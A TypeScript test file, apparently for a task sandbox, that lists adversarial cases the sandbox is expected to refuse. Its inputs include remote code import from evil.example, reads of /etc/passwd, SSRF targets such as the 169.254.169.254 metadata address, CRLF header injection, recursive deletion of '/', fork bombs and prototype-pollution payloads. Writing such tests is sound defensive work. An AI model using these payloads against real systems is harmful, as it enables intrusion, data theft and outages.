/**
 * Adversarial cases: what a hostile or broken task tries, and the envelope it must end with on
 * every host. After them, each host is checked unharmed (suite.ts).
 */
import { ATTACK_CASES } from "./attacks/index.ts";
import { type Case, mainTask, taskFile } from "./case.ts";

const DATA = { "data/in.txt": "inside\n" };
/**
 * Fuel of a run that ends by exhausting the host's native stack: where that stack ends depends on
 * the host (a Node worker thread has 4 MiB, a Web Worker or a Workers isolate about 1 MiB), so
 * how far the guest got differs. The outcome itself is the same everywhere.
 */
const NATIVE_STACK = "any";
const readWrite = `{ name: "main", allowedFiles: ["data"] }`;
const readOnly = `{ name: "main", allowedFiles: [{ path: "data", mode: "read-only" }] }`;

/** Hosts that answer a bad request with HTTP 400 refuse it before anything runs. */
const refusedBeforeRun = (message: string): Case["where"] => [
  {
    features: { badRequest: "http-400" },
    expect: { success: false, refused: true, message },
    why: "a bad request body is answered with HTTP 400 before anything runs",
  },
];

/** A page cannot see where a cross-origin redirect goes, so it refuses every one. */
const redirectsRefused = (fuel: "exact" | "any" = "exact"): Case["where"] => [
  {
    features: { followsCrossOriginRedirects: false },
    expect: { success: true, resultMatches: '^"TypeError: .*redirect', fuel },
    why: "a page cannot see a cross-origin redirect's target, so it refuses every one",
  },
];

/** A task that runs `attempt` (statements) and returns the error code or "allowed". */
const fileAttempt = (attempt: string, options = readWrite): string =>
  taskFile(`import fs from "node:fs";
    export const main = task(${options}, async () => {
      try { ${attempt}; return "allowed"; }
      catch (e) { return (e as NodeJS.ErrnoException).code ?? (e as Error).name; }
    });`);

/** A task that fetches `url` and returns how it failed (or "fetched"). */
const fetchAttempt = (url: string, hosts = `["*"]`, init = "{}"): string =>
  mainTask(
    `try { const r = await fetch(${JSON.stringify(url)}, ${init}); await r.arrayBuffer(); return "fetched " + r.status; }
     catch (e) { return (e as Error).name + ": " + (e as Error).message; }`,
    `{ name: "main", allowedHosts: ${hosts} }`,
  );

/** Every notation of a private, loopback, link-local, CGNAT or metadata address; refused under "*". */
const SSRF_TARGETS: [id: string, url: string][] = [
  ["loopback", "http://127.0.0.1/"],
  ["loopback-other", "http://127.8.9.10/"],
  ["localhost", "http://localhost/"],
  ["localhost-subdomain", "http://api.localhost/"],
  ["ipv6-loopback", "http://[::1]/"],
  ["decimal", "http://2130706433/"],
  ["hex", "http://0x7f000001/"],
  ["octal", "http://0177.0.0.1/"],
  ["short", "http://127.1/"],
  ["ipv4-mapped", "http://[::ffff:127.0.0.1]/"],
  ["ipv4-mapped-hex", "http://[::ffff:7f00:1]/"],
  ["metadata", "http://169.254.169.254/latest/meta-data/"],
  ["metadata-ipv6", "http://[fd00:ec2::254]/"],
  ["private-10", "http://10.0.0.1/"],
  ["private-172", "http://172.16.0.1/"],
  ["private-192", "http://192.168.1.1/"],
  ["cgnat", "http://100.64.0.1/"],
  ["unspecified", "http://0.0.0.0/"],
  ["ipv6-unspecified", "http://[::]/"],
  ["ipv6-unique-local", "http://[fc00::1]/"],
  ["nat64", "http://[64:ff9b::7f00:1]/"],
  ["trailing-dot", "http://127.0.0.1./"],
];

const ssrfCases: Case[] = SSRF_TARGETS.map(([id, url]) => ({
  id: `ssrf-${id}`,
  group: "network",
  title: `${url} is refused even under allowedHosts ["*"]`,
  code: fetchAttempt(url),
  expect: { success: true, resultMatches: '^"TypeError: ' },
}));

export const ADVERSARIAL_CASES: Case[] = [
  // --- escape: reaching the host from inside the sandbox ---
  {
    id: "escape-host-globals",
    group: "escape",
    title: "no host global is reachable: require, module, Deno, window, document, importScripts",
    code: mainTask(`
      const g = Function("return this")() as Record<string, unknown>;
      return ["require", "module", "exports", "__dirname", "Deno", "Bun", "window", "document", "importScripts", "XMLHttpRequest", "WebSocket", "navigator", "caches", "Worker"]
        .filter((name) => typeof g[name] !== "undefined");`),
    expect: { success: true, result: [] },
  },
  {
    id: "escape-process",
    group: "escape",
    title: "the guest's process has no binding, dlopen, mainModule, kill or exit to the host",
    code: mainTask(`
      const p = process as unknown as Record<string, unknown>;
      return ["binding", "_linkedBinding", "dlopen", "mainModule", "kill", "reallyExit", "_getActiveHandles", "getBuiltinModule"]
        .filter((name) => typeof p[name] === "function" || (p[name] !== undefined && name === "mainModule"));`),
    expect: { success: true, result: [] },
  },
  {
    id: "escape-constructor-chain",
    group: "escape",
    title: "the Function constructor reached through a value's prototype chain is the guest's",
    code: mainTask(`
      const F = ([] as any).constructor.constructor;
      const outer = F("return this")();
      return { same: outer === globalThis, require: F("return typeof require")(), wasm: F("return typeof WebAssembly")() };`),
    expect: { success: true, result: { same: true, require: "undefined", wasm: "undefined" } },
  },
  {
    id: "escape-indirect-eval",
    group: "escape",
    title: "indirect eval runs in the guest's own global scope",
    code: mainTask(`return (0, eval)("typeof process.binding + typeof globalThis.require");`),
    expect: { success: true, result: "undefinedundefined" },
  },
  {
    id: "escape-webassembly",
    group: "escape",
    title: "the guest has no WebAssembly to build a second engine with",
    code: mainTask(`return typeof (globalThis as any).WebAssembly;`),
    expect: { success: true, result: "undefined" },
  },
  {
    id: "escape-static-import",
    group: "escape",
    title: "a static import of child_process is a compile_error naming it",
    code: taskFile(`import { execSync } from "node:child_process";
      export const main = task({ name: "main" }, () => String(execSync("id")));`),
    expect: { success: false, errorType: "compile_error", message: "child_process" },
  },
  {
    id: "escape-dynamic-import",
    group: "escape",
    title: "a dynamic import of a host module is refused inside the task",
    code: mainTask(`
      const name = ["node:", "child", "_process"].join("");
      try { await import(name); return "imported"; } catch (e) { return "refused: " + /child_process/.test(String(e)); }`),
    expect: { success: true, result: "refused: true" },
  },
  {
    id: "escape-import-url",
    group: "escape",
    title: "importing code from a URL is refused",
    code: mainTask(`
      const url = "https://evil.example/payload.js";
      try { await import(url); return "imported"; } catch (e) { return "refused"; }`),
    expect: { success: true, result: "refused" },
  },
  {
    id: "escape-proto-result",
    group: "escape",
    title: "a __proto__ key in the result arrives as plain data, host prototypes untouched",
    code: mainTask(
      `return JSON.parse('{"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": "yes"}}}');`,
    ),
    expect: {
      success: true,
      resultMatches: '"__proto__":\\{"polluted":"yes"\\},"constructor":\\{"prototype"',
    },
  },
  {
    id: "escape-proto-subtask",
    group: "escape",
    title: "__proto__ in a sub-task's arguments and result stays data",
    code: taskFile(`
      export const echo = task({ name: "echo" }, (value: unknown) => value);
      export const main = task({ name: "main" }, async () => {
        const envelope = await echo(JSON.parse('{"__proto__": {"polluted": 1}}'));
        return { own: Object.keys(envelope.result as object), inherited: ({} as any).polluted ?? null };
      });`),
    expect: { success: true, result: { own: ["__proto__"], inherited: null } },
  },
  {
    id: "escape-proto-files",
    group: "escape",
    title: "files named __proto__ and constructor are ordinary files",
    code: taskFile(`import fs from "node:fs";
      export const main = task(${readWrite}, () => {
        fs.writeFileSync("data/__proto__", "p");
        fs.writeFileSync("data/constructor", "c");
        return fs.readdirSync("data").sort().concat(fs.readFileSync("data/__proto__", "utf8"));
      });`),
    files: DATA,
    expect: { success: true, result: ["__proto__", "constructor", "in.txt", "p"] },
  },
  {
    id: "escape-proto-headers",
    group: "escape",
    title: "a __proto__ header name is refused or sent as data, never merged",
    code: mainTask(`
      const headers = JSON.parse('{"__proto__": {"polluted": "1"}, "x-ok": "1"}');
      try { new Headers(headers); } catch (e) { return (e as Error).name; }
      return ({} as any).polluted ?? "clean";`),
    expect: { success: true, resultMatches: '^"(clean|TypeError)"$' },
  },
  {
    id: "escape-getter-path",
    group: "escape",
    title: "a path object whose toString throws is refused with the guest's own error",
    code: fileAttempt(`fs.readFileSync({ toString() { throw new Error("from getter"); } } as any)`),
    files: DATA,
    expect: { success: true, resultMatches: "TypeError|ERR_INVALID_ARG_TYPE" },
  },
  {
    id: "escape-proxy-headers",
    group: "escape",
    title: "a Proxy whose traps throw, handed to fetch, fails inside the guest",
    code: mainTask(
      `const trap = new Proxy({}, { ownKeys() { throw new Error("trap fired"); }, get() { throw new Error("trap fired"); } });
       try { await fetch("{{SERVER}}/text", { headers: trap as any }); return "sent"; } catch (e) { return (e as Error).message; }`,
      `{ name: "main", allowedHosts: ["127.0.0.1"] }`,
    ),
    expect: { success: true, result: "trap fired" },
  },
  {
    id: "escape-thenable-result",
    group: "escape",
    title: "a thenable result is awaited like a promise",
    code: mainTask(`return { then(resolve: (v: number) => void) { resolve(42); } };`),
    expect: { success: true, result: 42 },
  },
  {
    id: "escape-cyclic-result",
    group: "escape",
    title: "a cyclic result is a task_error, not a hang",
    code: mainTask(`const a: any = { name: "a" }; a.self = a; return a;`),
    expect: { success: false, errorType: "task_error", message: "ircular|cyclic" },
  },
  {
    id: "escape-bigint-result",
    group: "escape",
    title: "a result JSON cannot carry is a task_error naming why",
    code: mainTask(`return { big: 10n };`),
    expect: { success: false, errorType: "task_error", message: "BigInt|bigint" },
  },
  {
    id: "escape-json-override",
    group: "escape",
    title: "replacing JSON.stringify cannot forge the envelope",
    code: mainTask(`
      JSON.stringify = () => '{"success":true,"result":"forged"}';
      JSON.parse = () => ({ forged: true });
      throw new Error("real failure");`),
    expect: { success: false, errorType: "task_error", message: "real failure" },
  },
  {
    id: "escape-promise-override",
    group: "escape",
    title: "replacing Promise.prototype.then cannot hide a failure",
    code: mainTask(`
      Promise.prototype.then = function () { return this; } as any;
      throw new Error("still reported");`),
    expect: { success: false, errorType: "task_error", message: "still reported" },
  },
  {
    id: "escape-throw-getter",
    group: "escape",
    title: "a thrown object whose message getter throws is still a task_error",
    code: mainTask(
      `throw { get message(): string { throw new Error("getter bomb"); }, get stack(): string { throw new Error("stack bomb"); } };`,
    ),
    expect: { success: false, errorType: "task_error" },
  },
  {
    id: "escape-stack-in-host-call",
    group: "escape",
    title: "a stack overflow while inside a host call ends as a task_error",
    code: taskFile(`import fs from "node:fs";
      export const main = task(${readOnly}, () => {
        const dive = (n: number): number => fs.readFileSync("data/in.txt").length + dive(n + 1);
        return dive(0);
      });`),
    files: DATA,
    // The message names the stack overflow, or the host call the exhausted stack broke.
    expect: { success: false, errorType: "task_error", fuel: NATIVE_STACK },
  },

  // --- files: every escape from the project ---
  {
    id: "files-dotdot",
    group: "files",
    title: "../ out of the project is refused",
    code: fileAttempt(`fs.readFileSync("../outside/secret.txt", "utf8")`),
    files: DATA,
    expect: { success: true, result: "EACCES" },
  },
  {
    id: "files-dotdot-inside-grant",
    group: "files",
    title: "data/../../ out of a grant is refused",
    code: fileAttempt(`fs.readFileSync("data/../../outside/secret.txt", "utf8")`),
    files: DATA,
    expect: { success: true, result: "EACCES" },
  },
  {
    id: "files-absolute",
    group: "files",
    title: "an absolute host path is inside the project's view, and refused",
    code: fileAttempt(`fs.readFileSync("/etc/passwd", "utf8")`),
    files: DATA,
    expect: { success: true, result: "EACCES" },
  },
  {
    id: "files-file-url",
    group: "files",
    title: "a file: URL to /etc/passwd is refused",
    code: fileAttempt(`fs.readFileSync(new URL("file:///etc/passwd"), "utf8")`),
    files: DATA,
    expect: { success: true, result: "EACCES" },
  },
  {
    id: "files-ungranted-sibling",
    group: "files",
    title: "a project file outside every grant is refused",
    code: fileAttempt(`fs.readFileSync("private/key.txt", "utf8")`),
    files: { ...DATA, "private/key.txt": "do not read" },
    expect: { success: true, result: "EACCES" },
  },
  {
    id: "files-nul-byte",
    group: "files",
    title: "a NUL byte in a path is refused as Node refuses it",
    code: fileAttempt(`fs.readFileSync("data/in.txt\\u0000../../outside/secret.txt", "utf8")`),
    files: DATA,
    expect: { success: true, result: "ERR_INVALID_ARG_VALUE" },
  },
  {
    id: "files-backslash",
    group: "files",
    title: "a backslash in a path is refused: a Windows host would read it as a separator",
    code: fileAttempt(`fs.readFileSync("data\\\\..\\\\..\\\\outside\\\\secret.txt", "utf8")`),
    files: DATA,
    expect: { success: true, result: "EINVAL" },
  },
  {
    id: "files-percent-encoded",
    group: "files",
    title: "a percent-encoded ../ is a literal name",
    code: fileAttempt(`fs.readFileSync("data/%2e%2e/%2e%2e/outside/secret.txt", "utf8")`),
    files: DATA,
    expect: { success: true, result: "ENOENT" },
  },
  {
    id: "files-read-only-write",
    group: "files",
    title: "writing through a read-only grant is EROFS and leaves the file as it was",
    code: fileAttempt(`fs.writeFileSync("data/in.txt", "overwritten")`, readOnly),
    files: DATA,
    expect: { success: true, result: "EROFS", files: { "data/in.txt": "inside\n" } },
  },
  {
    id: "files-read-only-remove",
    group: "files",
    title: "removing or renaming in a read-only grant is EROFS",
    code: fileAttempt(
      `try { fs.rmSync("data/in.txt"); } catch (e) { fs.renameSync("data/in.txt", "data/moved.txt"); }`,
      readOnly,
    ),
    files: DATA,
    expect: { success: true, result: "EROFS", files: { "data/in.txt": "inside\n" } },
  },
  {
    id: "files-rename-out",
    group: "files",
    title: "renaming a granted file out of its grant is refused",
    code: fileAttempt(`fs.renameSync("data/in.txt", "stolen.txt")`),
    files: DATA,
    expect: {
      success: true,
      result: "EACCES",
      files: { "data/in.txt": "inside\n", "stolen.txt": null },
    },
  },
  {
    id: "files-remove-root",
    group: "files",
    title: "removing the project root recursively is refused and removes nothing",
    code: fileAttempt(`fs.rmSync("/", { recursive: true, force: true })`),
    files: DATA,
    expect: { success: true, result: "EACCES", files: { "data/in.txt": "inside\n" } },
  },
  {
    id: "files-mkdir-outside",
    group: "files",
    title: "creating a directory outside the grant is refused",
    code: fileAttempt(`fs.mkdirSync("../outside/new", { recursive: true })`),
    files: DATA,
    expect: { success: true, result: "EACCES" },
  },
  {
    id: "files-symlink-out",
    group: "files",
    title: "a symlink the task makes to outside cannot be followed",
    code: fileAttempt(
      `fs.symlinkSync("../../outside/secret.txt", "data/link"); fs.readFileSync("data/link", "utf8")`,
    ),
    files: DATA,
    expect: { success: true, result: "EACCES" },
    where: [
      {
        features: { symlinks: false },
        expect: { success: true, result: "EINVAL" },
        why: "this host's file system has no symbolic links",
      },
    ],
  },
  {
    id: "files-hard-link",
    group: "files",
    title: "hard links cannot be made: fs.linkSync says it is not available",
    code: fileAttempt(`(fs as any).linkSync("data/in.txt", "data/hard")`),
    files: DATA,
    expect: { success: true, result: "ERR_NOT_AVAILABLE" },
  },
  {
    id: "files-long-path",
    group: "files",
    title: "a 100,000-character path is ENAMETOOLONG on every host",
    code: fileAttempt(`fs.readFileSync("data/" + "a".repeat(100_000))`),
    files: DATA,
    expect: { success: true, result: "ENAMETOOLONG" },
  },
  {
    id: "files-long-name",
    group: "files",
    title: "a file name over 255 bytes of UTF-8 is ENAMETOOLONG on every host",
    code: fileAttempt(`fs.writeFileSync("data/" + "é".repeat(200), "x")`),
    files: DATA,
    expect: { success: true, result: "ENAMETOOLONG" },
  },
  {
    id: "files-no-grant",
    group: "files",
    title: "without allowedFiles every path is refused, even the project root",
    code: fileAttempt(`fs.readdirSync(".")`, `{ name: "main" }`),
    files: DATA,
    expect: { success: true, result: "EACCES" },
  },

  // --- network: SSRF, redirects, slow and huge responses ---
  ...ssrfCases,
  {
    id: "net-userinfo",
    group: "network",
    title: "a listed host in the userinfo part does not make the URL's host listed",
    code: fetchAttempt("http://127.0.0.1@evil.example/", `["127.0.0.1"]`),
    expect: { success: true, resultMatches: '^"TypeError: .*evil\\.example' },
  },
  {
    id: "net-scheme",
    group: "network",
    title: "file: and data: URLs are not fetched",
    code: mainTask(
      `
      const out: string[] = [];
      for (const url of ["file:///etc/passwd", "data:text/plain,hi", "ftp://127.0.0.1/"]) {
        try { await fetch(url); out.push("fetched"); } catch (e) { out.push((e as Error).name); }
      }
      return out;`,
      `{ name: "main", allowedHosts: ["*"] }`,
    ),
    expect: { success: true, result: ["TypeError", "TypeError", "TypeError"] },
  },
  {
    id: "net-header-injection",
    group: "network",
    title: "a header value with CR LF is refused",
    code: fetchAttempt(
      "{{SERVER}}/text",
      `["127.0.0.1"]`,
      `{ headers: { "x-a": "1\\r\\nHost: evil.example" } }`,
    ),
    expect: { success: true, resultMatches: '^"TypeError' },
  },
  {
    id: "net-redirect-denied",
    group: "network",
    title: "a redirect to a metadata address is refused at the hop",
    code: fetchAttempt("{{SERVER}}/away?to=http://169.254.169.254/latest/", `["127.0.0.1"]`),
    expect: { success: true, resultMatches: '^"TypeError: .*169\\.254\\.169\\.254' },
    where: redirectsRefused(),
  },
  {
    id: "net-redirect-chain",
    group: "network",
    title: "a chain of 25 redirects stops at the limit of 20",
    code: fetchAttempt("{{SERVER}}/redirect/25", `["127.0.0.1"]`),
    expect: { success: true, resultMatches: '^"TypeError: .*more than 20', fuel: "any" },
    where: redirectsRefused("any"),
  },
  {
    id: "net-redirect-short",
    group: "network",
    title: "a short redirect chain on a listed host is followed",
    code: fetchAttempt("{{SERVER}}/redirect/3", `["127.0.0.1"]`),
    expect: { success: true, result: "fetched 200", fuel: "any" },
    where: redirectsRefused("any"),
  },
  {
    id: "net-slow-loris",
    group: "network",
    title: "a response that trickles forever ends at the task's timeout",
    code: mainTask(
      `const r = await fetch("{{SERVER}}/slow"); return await r.text();`,
      `{ name: "main", allowedHosts: ["127.0.0.1"], timeout: "1s" }`,
    ),
    expect: { success: false, errorType: "timeout", fuel: "any" },
  },
  {
    id: "net-huge",
    group: "network",
    title: "a response over 16 MiB is refused with the limit named",
    code: fetchAttempt("{{SERVER}}/huge", `["127.0.0.1"]`),
    expect: { success: true, resultMatches: '^"TypeError: .*maxResponseBytes', fuel: "any" },
  },
  {
    id: "net-no-cors",
    group: "network",
    title: "a listed host without CORS headers",
    code: fetchAttempt("{{SERVER}}/no-cors", `["127.0.0.1"]`),
    expect: { success: true, result: "fetched 200", fuel: "any" },
    where: [
      {
        features: { cors: true },
        expect: { success: true, resultMatches: '^"TypeError: ', fuel: "any" },
        why: "a page's fetch obeys CORS: the response is unreadable without its headers",
      },
    ],
  },
  {
    id: "net-uncaught-denial",
    group: "network",
    title: "an uncaught denial ends the run as permission_denied",
    code: mainTask(
      `await fetch("http://169.254.169.254/"); return "fetched";`,
      `{ name: "main", allowedHosts: ["*"] }`,
    ),
    expect: { success: false, errorType: "permission_denied", message: "169\\.254\\.169\\.254" },
  },

  // --- denial of service ---
  {
    id: "dos-busy-loop",
    group: "denial-of-service",
    title: "an empty infinite loop is stopped at the timeout",
    code: mainTask(`while (true) {}`, `{ name: "main", compute: "HIGH", timeout: "200ms" }`),
    expect: { success: false, errorType: "timeout", fuel: "any" },
  },
  {
    id: "dos-regex",
    group: "denial-of-service",
    title: "catastrophic regex backtracking runs out of fuel inside the built-in",
    code: mainTask(
      `return /^(a+)+$/.test("a".repeat(40) + "b");`,
      `{ name: "main", compute: "50000000" }`,
    ),
    expect: { success: false, errorType: "fuel_exhausted" },
  },
  {
    id: "dos-regex-timeout",
    group: "denial-of-service",
    title: "catastrophic regex backtracking is stopped at the timeout",
    code: mainTask(
      `return /^(a+)+$/.test("a".repeat(40) + "b");`,
      `{ name: "main", compute: "HIGH", timeout: "300ms" }`,
    ),
    expect: { success: false, errorType: "timeout", fuel: "any" },
  },
  {
    id: "dos-repeat",
    group: "denial-of-service",
    title: "a gigantic String.repeat is a memory_exceeded or a RangeError, not a host crash",
    code: mainTask(`return "x".repeat(2 ** 29).length;`, `{ name: "main", ram: "64MB" }`),
    expect: { success: false, errorType: "memory_exceeded" },
  },
  {
    id: "dos-sort",
    group: "denial-of-service",
    title: "an expensive sort comparator runs out of fuel",
    code: mainTask(
      `const items = Array.from({ length: 200_000 }, (_, i) => (i * 7919) % 200_000);
       return items.sort((a, b) => { let s = 0; for (let i = 0; i < 50; i++) s += i; return a - b + s * 0; }).length;`,
      `{ name: "main", compute: "100000000" }`,
    ),
    expect: { success: false, errorType: "fuel_exhausted" },
  },
  {
    id: "dos-allocation",
    group: "denial-of-service",
    title: "an allocation bomb stops at the ram limit",
    code: mainTask(
      `const all: number[][] = []; for (;;) all.push(new Array(1e6).fill(1));`,
      `{ name: "main", ram: "48MB" }`,
    ),
    expect: { success: false, errorType: "memory_exceeded" },
  },
  {
    id: "dos-doubling",
    group: "denial-of-service",
    title: "a doubling string stops at the engine's string length limit",
    code: mainTask(`let s = "ab"; for (;;) s = s + s;`, `{ name: "main", ram: "48MB" }`),
    expect: { success: false, errorType: "task_error", message: "string too long" },
  },
  {
    id: "dos-typed-array",
    group: "denial-of-service",
    title: "a typed array larger than ram is refused",
    code: mainTask(
      `return new Uint8Array(512 * 1024 * 1024).length;`,
      `{ name: "main", ram: "48MB" }`,
    ),
    expect: { success: false, errorType: "memory_exceeded" },
  },
  {
    id: "dos-recursion",
    group: "denial-of-service",
    title: "unbounded recursion is a stack-overflow task_error",
    code: mainTask(`const f = (n: number): number => f(n + 1) + 1; return f(0);`),
    expect: {
      success: false,
      errorType: "task_error",
      message: "stack|recursion",
      fuel: NATIVE_STACK,
    },
  },
  {
    id: "dos-never-resolves",
    group: "denial-of-service",
    title: "a promise that can never settle is reported, not waited on forever",
    code: mainTask(`await new Promise(() => {}); return "unreachable";`),
    expect: { success: false, errorType: "task_error", message: "never" },
  },
  {
    id: "dos-microtask-loop",
    group: "denial-of-service",
    title: "an endless chain of awaits runs out of fuel",
    code: mainTask(`for (;;) await null;`, `{ name: "main", compute: "20000000" }`),
    expect: { success: false, errorType: "fuel_exhausted" },
  },
  {
    id: "dos-timer-flood",
    group: "denial-of-service",
    title: "a flood of timers runs out of fuel",
    code: mainTask(
      `const tick = () => { setTimeout(tick, 0); setTimeout(tick, 0); }; tick(); await new Promise(() => {});`,
      `{ name: "main", compute: "30000000", timeout: "5s" }`,
    ),
    expect: { success: false, errorType: "fuel_exhausted" },
  },
  {
    id: "dos-log-flood",
    group: "denial-of-service",
    title: "a log flood is cut at the log limit and the task still finishes",
    code: mainTask(
      `const line = "y".repeat(10_000); for (let i = 0; i < 500; i++) console.log(line); return "done";`,
    ),
    expect: { success: true, result: "done" },
  },
  {
    id: "dos-result-bomb",
    group: "denial-of-service",
    title: "a result over 16 MiB is refused with the limit named",
    // Its own ram: a Workers task has 16 MiB unless it asks, too little to build the result.
    code: mainTask(
      `return "z".repeat(17 * 1024 * 1024);`,
      `{ name: "main", compute: "HIGH", ram: "64MB" }`,
    ),
    expect: { success: false, errorType: "task_error", message: "16 MiB|too large|limit" },
  },
  {
    id: "dos-deep-result",
    group: "denial-of-service",
    title: "a result nested 20,000 levels deep is a task_error, not a host stack overflow",
    code: mainTask(
      `let a: unknown[] = []; for (let i = 0; i < 20_000; i++) a = [a]; return a;`,
      `{ name: "main", compute: "HIGH" }`,
    ),
    expect: { success: false, errorType: "task_error", fuel: NATIVE_STACK },
  },
  {
    id: "dos-json-bomb",
    group: "denial-of-service",
    title: "parsing deeply nested JSON is a stack-overflow task_error, which the task cannot catch",
    code: mainTask(
      `try { JSON.parse("[".repeat(1_000_000)); return "parsed"; } catch (e) { return (e as Error).name; }`,
    ),
    expect: {
      success: false,
      errorType: "task_error",
      message: "stack overflow",
      fuel: NATIVE_STACK,
    },
  },
  {
    id: "dos-fork-bomb",
    group: "denial-of-service",
    title: "a sub-task fork bomb stops at the sub-task limits",
    code: taskFile(`
      export const fork = task({ name: "fork", compute: "LOW" }, async (depth: number): Promise<number> => {
        const children = await Promise.all([fork(depth + 1), fork(depth + 1)]);
        const refused = children.filter((c) => !c.success).length;
        return refused + children.reduce((sum, c) => sum + (typeof c.result === "number" ? c.result : 0), 0);
      });
      export const main = task({ name: "main", compute: "HIGH", timeout: "60s" }, async () => {
        const root = await fork(0);
        return { finished: true, anyRefused: !root.success || (root.result as number) > 0 };
      });`),
    expect: { success: true, result: { finished: true, anyRefused: true }, fuel: "any" },
    testTimeoutMs: 120_000,
  },
  {
    id: "dos-retry-multiplication",
    group: "denial-of-service",
    title: "retries times sub-tasks stays bounded by the per-run sub-task limit",
    code: taskFile(`
      export const flaky = task({ name: "flaky", maxRetries: 10, compute: "LOW" }, () => { throw new Error("always"); });
      export const main = task({ name: "main", maxRetries: 10, compute: "HIGH", timeout: "60s" }, async () => {
        const results = await Promise.all(Array.from({ length: 20 }, () => flaky()));
        return results.map((r) => r.execution.retries).reduce((a, b) => a + b, 0);
      });`),
    expect: { success: true, result: 200, fuel: "any" },
  },

  // --- bad input ---
  {
    id: "bad-args-numbers",
    group: "bad-input",
    title: "args that are not strings are refused, naming them",
    code: mainTask(`return args;`),
    args: [1, { a: 2 }],
    expect: { success: false, errorType: "config_error", message: "args" },
    where: refusedBeforeRun("args"),
  },
  {
    id: "bad-args-not-array",
    group: "bad-input",
    title: "args that are not an array are refused",
    code: mainTask(`return args;`),
    args: "one two",
    expect: { success: false, errorType: "config_error", message: "args" },
    where: refusedBeforeRun("args"),
  },
  {
    id: "bad-task-type",
    group: "bad-input",
    title: "a task name that is not a string is refused",
    code: mainTask(`return 1;`),
    task: 42,
    expect: { success: false, errorType: "config_error", message: "task" },
    where: refusedBeforeRun("task"),
  },
  {
    id: "bad-task-unknown",
    group: "bad-input",
    title: "an unknown task name is a config_error listing the tasks there are",
    code: mainTask(`return 1;`),
    task: "nope",
    expect: { success: false, errorType: "config_error", message: "nope.*main" },
  },
  {
    id: "bad-language",
    group: "bad-input",
    title: "an unknown language is refused, naming it",
    code: mainTask(`return 1;`),
    language: "rb" as "ts",
    expect: { success: false, errorType: "config_error", message: "rb" },
    where: refusedBeforeRun("rb"),
  },
  {
    id: "bad-no-task",
    group: "bad-input",
    title: "a file that declares no task and no main is a config_error",
    code: `export const value = 1;`,
    expect: { success: false, errorType: "config_error", message: "main" },
  },
  {
    id: "bad-empty",
    group: "bad-input",
    title: "an empty file is a config_error",
    code: ``,
    expect: { success: false, errorType: "config_error" },
  },
  {
    id: "bad-syntax-deep",
    group: "bad-input",
    title: "an unterminated template literal is a compile_error",
    code: mainTask("return `never closed;"),
    expect: { success: false, errorType: "compile_error" },
  },
  {
    id: "bad-oversize-code",
    group: "bad-input",
    title: "a task file over 4 Mi characters is refused, naming the size",
    code: `${mainTask(`return 1;`)}\n// ${"x".repeat(4 * 1024 * 1024)}`,
    expect: { success: false, errorType: "compile_error", message: "4 Mi|characters|too large" },
  },
  {
    id: "bad-unicode-source",
    group: "bad-input",
    title: "lone surrogates, NUL and a BOM in the source run and come back escaped",
    code: `\uFEFF${mainTask(`return ["\\uD800", "\\u0000", "\uFFFD"].map((s) => s.charCodeAt(0));`)}`,
    expect: { success: true, result: [0xd800, 0, 0xfffd] },
  },
  {
    id: "bad-option-compute",
    group: "bad-input",
    title: "a negative compute is a config_error naming it",
    code: mainTask(`return 1;`, `{ name: "main", compute: -5 as any }`),
    expect: { success: false, errorType: "config_error", message: "compute" },
  },
  {
    id: "bad-option-unknown",
    group: "bad-input",
    title: "a misspelled option is a config_error naming it",
    code: mainTask(`return 1;`, `{ name: "main", ramm: "1MB" } as any`),
    expect: { success: false, errorType: "config_error", message: "ramm" },
  },
  {
    id: "bad-option-timeout",
    group: "bad-input",
    title: "a timeout that is not a duration is a config_error naming it",
    code: mainTask(`return 1;`, `{ name: "main", timeout: "forever" }`),
    expect: { success: false, errorType: "config_error", message: "forever" },
  },
  {
    id: "bad-option-retries",
    group: "bad-input",
    title: "more than 10 retries is a config_error",
    code: mainTask(`return 1;`, `{ name: "main", maxRetries: 1000 }`),
    expect: { success: false, errorType: "config_error", message: "1000" },
  },
  {
    id: "bad-option-absolute-file",
    group: "bad-input",
    title: "an absolute allowedFiles entry is a config_error",
    code: mainTask(`return 1;`, `{ name: "main", allowedFiles: ["/etc"] }`),
    expect: { success: false, errorType: "config_error", message: "/etc" },
  },
  {
    id: "bad-option-escaping-file",
    group: "bad-input",
    title: "an allowedFiles entry that leaves the project is a config_error",
    code: mainTask(`return 1;`, `{ name: "main", allowedFiles: ["../outside"] }`),
    expect: { success: false, errorType: "config_error", message: "\\.\\./outside" },
  },
  {
    id: "bad-option-missing-dir",
    group: "bad-input",
    title: "an allowedFiles directory that does not exist is refused, where directories are real",
    code: mainTask(
      `const fs = await import("node:fs"); fs.writeFileSync("nowhere/made.txt", "x"); return fs.readdirSync("nowhere");`,
      `{ name: "main", allowedFiles: ["nowhere"] }`,
    ),
    expect: { success: false, errorType: "config_error", message: "nowhere" },
    where: [
      {
        features: { missingGrantDirectory: "created" },
        expect: { success: true, result: ["made.txt"], files: { "nowhere/made.txt": "x" } },
        why: "a request cannot send an empty directory, so a granted one is created",
      },
    ],
  },
  {
    id: "bad-option-host-pattern",
    group: "bad-input",
    title: "a URL where a host pattern belongs is a config_error",
    code: mainTask(`return 1;`, `{ name: "main", allowedHosts: ["https://example.com/path"] }`),
    expect: { success: false, errorType: "config_error", message: "example\\.com/path" },
  },
  {
    id: "bad-option-env-type",
    group: "bad-input",
    title: "envVariables that is not a list is a config_error",
    code: mainTask(`return 1;`, `{ name: "main", envVariables: "HOME" as any }`),
    expect: { success: false, errorType: "config_error", message: "envVariables" },
  },
  ...ATTACK_CASES,
];
